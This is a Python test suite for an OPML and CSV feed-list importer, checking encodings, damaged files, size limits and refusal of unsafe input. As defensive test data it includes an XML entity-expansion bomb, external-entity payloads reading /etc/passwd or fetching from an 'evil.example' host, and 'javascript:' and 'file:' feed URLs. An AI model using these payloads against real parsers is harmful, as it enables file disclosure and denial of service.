"""Lists of feeds: what people's other programs write, and what nobody should have written."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING
from xml.sax.saxutils import quoteattr

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from calmreply.adapters import opml
from calmreply.errors import KnownError

if TYPE_CHECKING:
    from pathlib import Path

TITLES = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zl", "Zp", "Zs", "Cn"]),
    max_size=40,
).filter(lambda title: not title.startswith("#") and ":" not in title and "." not in title)
ADDRESSES = st.builds(
    lambda scheme, host, path: f"{scheme}://{host}.example/{path}",
    st.sampled_from(["http", "https"]),
    st.from_regex(r"[a-z]{1,9}", fullmatch=True),
    st.from_regex(r"[a-zA-Z0-9/?&=,;%+~._-]{0,20}", fullmatch=True),
)
LISTS = st.lists(st.tuples(TITLES, ADDRESSES), min_size=1, max_size=8, unique_by=lambda x: x[1])
CHARSETS = st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])


def outline(title: str, address: str) -> str:
    return f"<outline type='rss' text={quoteattr(title)} xmlUrl={quoteattr(address)}/>"


def document(*outlines: str, head: str = '<?xml version="1.0"?>') -> str:
    return f'{head}\n<opml version="2.0"><head/><body>{"".join(outlines)}</body></opml>'


def code_of(data: bytes) -> str:
    with pytest.raises(KnownError) as caught:
        opml.read(data)
    assert caught.value.words
    assert caught.value.way_out
    return caught.value.code


@given(feeds=LISTS, charset=CHARSETS)
def test_an_opml_of_any_list_gives_the_list(feeds: list[tuple[str, str]], charset: str) -> None:
    data = document(*(outline(*feed) for feed in feeds)).encode(charset)
    assert opml.read(data) == (tuple(feeds), ())


@given(
    feeds=LISTS,
    charset=CHARSETS.filter(lambda c: c[-2:] not in ("le", "be")),
    divider=st.sampled_from(",;\t"),
)
def test_a_table_of_any_list_gives_the_list(
    feeds: list[tuple[str, str]], charset: str, divider: str
) -> None:
    file = io.StringIO()
    table = csv.writer(file, delimiter=divider)
    table.writerow(["Name", "Feed"])
    table.writerows(feeds)
    assert opml.read(file.getvalue().encode(charset)) == (tuple(feeds), ())


@given(
    st.binary(max_size=400)
    | st.text(alphabet='<>&"=/ outlinexmlUrl:http.,;\t\n[]!', max_size=300).map(str.encode)
)
@example(b"<opml><outline xmlUrl='http://[x'/></opml>")
@example(b"http://[::1/feed\nhttp://a.example:99999/")
def test_whatever_the_bytes_are_it_is_a_list_or_a_known_error(data: bytes) -> None:
    try:
        found = opml.read(data)
    except KnownError as error:
        assert error.code in ("not_a_list", "unsafe_file")  # noqa: PT017 - either end is fine
    else:
        assert found.feeds or found.refused
        assert all(url.lower().startswith(("http://", "https://")) for _title, url in found.feeds)
        assert all(why and "\n" not in what for what, why in found.refused)


def test_what_reader_programs_write_is_read() -> None:
    """Folders, odd cases of the names, `url` for `xmlUrl`, a bare DOCTYPE, comments and CDATA."""
    text = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE opml>
<!-- exported -->
<opml version="1.1">
 <head><title>Mine</title><ownerName><![CDATA[Mia & co]]></ownerName></head>
 <body>
  <outline text="Reviews" title="Reviews">
   <outline title="Caf&#233; &amp; bar" text="x" type="rss"
     xmlUrl=" https://a.example/f?x=1&amp;y=2 " htmlUrl="https://a.example/"/>
   <outline TEXT="b" XMLURL="feed://b.example/rss"/>
   <outline text="c" type="atom" url="feed:https://c.example/atom"/>
   <outline text="" title="" type="rss" xmlUrl="www.d.example/feed"/>
   <outline text="a page" type="link" url="https://e.example/"/>
   <outline text="no address" type="rss"/>
   <outline text="file" xmlUrl="file:///etc/passwd"/>
   <outline text="script" xmlUrl="javascript:alert(1)"/>
   <outline text="space" xmlUrl="https://f.example/a b"/>
   <outline text="again" xmlUrl="https://a.example/f?x=1&amp;y=2"/>
  </outline>
 </body>
</opml>"""
    found = opml.read(text.encode())
    assert found.feeds == (
        ("Café & bar", "https://a.example/f?x=1&y=2"),
        ("b", "https://b.example/rss"),
        ("c", "https://c.example/atom"),
        ("", "https://www.d.example/feed"),
    )
    assert [what for what, _why in found.refused] == [
        "no address",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "https://f.example/a b",
        "https://a.example/f?x=1&y=2",
    ]
    assert found.refused[1][1] == found.refused[2][1]
    assert "http://" in found.refused[1][1]
    assert "twice" in found.refused[4][1]


@pytest.mark.parametrize(
    ("declared", "real"),
    [
        ("utf-8", "cp1252"),
        ("utf-16", "utf-8"),
        ("iso-8859-1", "utf-8"),
        ("no-such-charset", "utf-8"),
        ("no-such-charset", "cp1252"),
        ("windows-1252", "cp1252"),
        ("zip", "cp1252"),
    ],
)
def test_a_wrong_charset_survives(declared: str, real: str) -> None:
    head = f'<?xml version="1.0" encoding="{declared}"?>'
    data = document(outline("Über uns“", "https://a.example/"), head=head).encode(real)
    assert opml.read(data).feeds == (("Über uns“", "https://a.example/"),)


@pytest.mark.parametrize("charset", ["shift_jis", "koi8-r", "windows-1251", "gb2312"])
def test_a_right_charset_of_any_country_is_believed(charset: str) -> None:
    title = "Отзывы" if charset in ("koi8-r", "windows-1251") else "日本"
    head = f"<?xml version='1.0' encoding='{charset}'?>"
    data = document(outline(title, "https://a.example/"), head=head).encode(charset)
    assert opml.read(data).feeds == ((title, "https://a.example/"),)


def test_sloppy_and_cut_off_files_lose_only_what_is_broken() -> None:
    sloppy = document('<outline text="Tea &amp; more &nbsp;&copy; &Unknown; & &LT;b&GT;" '
                      'xmlUrl="https://a.example/?x=1&copy=2&y=3"/>')  # fmt: skip
    assert opml.read(sloppy.encode()).feeds == (
        ("Tea & more © &Unknown; & <b>", "https://a.example/?x=1&copy=2&y=3"),
    )
    whole = document(*(outline(f"n{n}", f"https://a{n}.example/") for n in range(5)))
    cut = whole[: whole.index("n3") + 4]
    found = opml.read(cut.encode())
    assert [title for title, _url in found.feeds] == ["n0", "n1", "n2"]
    assert len(found.refused) == 1
    assert "damaged" in found.refused[0][1]
    odd = document(outline("a\x00\x08\ufffe", "https://a.example/"))
    assert opml.read(odd.encode()).feeds == (("a", "https://a.example/"),)


def test_plain_lists_and_ragged_tables() -> None:
    found = opml.read(
        b"# my feeds\r\nhttps://a.example/feed?x=1,2;3\r\n\r\nThe tea shop: https://b.example/rss\r"
        b"c.example/feed\nwww.d.example (a friend)\n'https://e.example/'\nnonsense, really\n"
        b"mailto:mia@f.example\nftp://g.example/feed\n"
    )
    assert found.feeds == (
        ("", "https://a.example/feed?x=1,2;3"),
        ("The tea shop", "https://b.example/rss"),
        ("", "https://c.example/feed"),
        ("a friend", "https://www.d.example"),
        ("", "https://e.example/"),
    )
    assert [what for what, _why in found.refused] == [
        "nonsense, really",
        "mailto:mia@f.example",
        "ftp://g.example/feed",
    ]


def test_a_table_tells_its_title_from_its_address() -> None:
    data = 'Heise.de;https://a.example/;"5 stars; ""good"""\n5" pipes;https://b.example/;x\n'
    found = opml.read(data.encode())
    assert found.feeds == (
        ("Heise.de", "https://a.example/"),
        ('5" pipes', "https://b.example/"),
    )
    swallowed = opml.read(b'"an open quote;https://a.example/\nTwo;https://b.example/\n')
    assert ("Two", "https://b.example/") in swallowed.feeds
    assert opml.read(b"A title,feeds.a.example/x\nAnother,b.example\n").feeds == (
        ("A title", "https://feeds.a.example/x"),
        ("Another", "https://b.example"),
    )


LAUGHS = (f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
BOMB = f"<!DOCTYPE x [<!ENTITY a0 'ha'>{''.join(LAUGHS)}]>"


@pytest.mark.parametrize(
    "doctype",
    [
        BOMB,
        "<!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://evil.example/p'> %p;]>",
        "<!DOCTYPE x [<!ATTLIST outline text CDATA 'swollen'>]>",
    ],
)
@pytest.mark.parametrize("broken", ["", "&"])
def test_a_file_that_swells_or_reaches_out_is_refused_whole(doctype: str, broken: str) -> None:
    text = document('<outline text="&a9;" xmlUrl="https://a.example/"/>', broken, head=doctype)
    assert code_of(text.encode()) == "unsafe_file"


def test_a_doctype_that_points_elsewhere_is_not_followed() -> None:
    head = '<!DOCTYPE opml SYSTEM "http://127.0.0.1:1/opml.dtd">'
    found = opml.read(document(outline("x", "https://a.example/"), head=head).encode())
    assert found.feeds == (("x", "https://a.example/"),)


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "no feed's address"),
        (b" \n\n# nothing\n", "no feed's address"),
        (b"<!DOCTYPE html><html><body><p>Hello<br></body></html>", "no feed's address"),
        (b"<opml version='2.0'><body/></opml>", "no feed's address"),
        (b"<?xml version='1.0'?><rss version='2.0'><channel/></rss>", "a feed itself"),
        (b"<feed xmlns='http://www.w3.org/2005/Atom'></feed>", "a feed itself"),
        (b"PK\x03\x04\x14\x00\x06\x00", "Save the sheet as CSV"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "no feed's address"),
    ],
)
def test_a_file_with_nothing_to_take_says_what_it_is(data: bytes, words: str) -> None:
    assert code_of(data) == "not_a_list"
    with pytest.raises(KnownError, match=words):
        opml.read(data)


@pytest.mark.timeout(240)  # a tenth of the largest takes two seconds; anything quadratic minutes
def test_the_largest_and_the_nastiest_end_in_time() -> None:
    assert code_of(b"x" * (opml.LARGEST + 1)) == "file_too_big"
    size = opml.LARGEST // 10
    for nasty in (b"<" * size, b"&" * size, b" " * size, b"<a>" * (size // 3), b'"' * size,
                  b"<?xml" * (size // 5), b"http:" * (size // 5), b"a." * (size // 2),
                  b"<a b='" + b"&" * (size - 6), b"," * size, b"#\n" * (size // 2),
                  b"a.\n" * (size // 3)):  # fmt: skip
        try:
            opml.read(nasty)
        except KnownError as error:
            assert error.code in ("not_a_list", "unsafe_file")  # noqa: PT017 - or refused lines
    found = opml.read(b"https://a.example/\n" + b"a.b c\n" * 30_000)
    assert len(found.feeds) == 1
    many = "\n".join(f"https://a.example/{n}" for n in range(opml.MOST + 7))
    found = opml.read(many.encode())
    assert len(found.feeds) == opml.MOST
    assert found.refused == (("7 more addresses", "Only 5000 are taken from one file."),)


def test_a_file_is_read_up_to_the_limit_and_its_troubles_are_told(tmp_path: Path) -> None:
    good = tmp_path / "feeds.opml"
    good.write_text(document(outline("Grüße", "https://a.example/")), encoding="utf-8")
    assert opml.read_file(good).feeds == (("Grüße", "https://a.example/"),)
    with (tmp_path / "huge").open("wb") as huge:
        huge.truncate(1_000_000_000)
    with pytest.raises(KnownError) as caught:
        opml.read_file(tmp_path / "huge")
    assert caught.value.code == "file_too_big"
    for wrong in (tmp_path / "gone.opml", tmp_path):
        with pytest.raises(KnownError) as caught:
            opml.read_file(wrong)
        assert caught.value.code == "cannot_read_file"
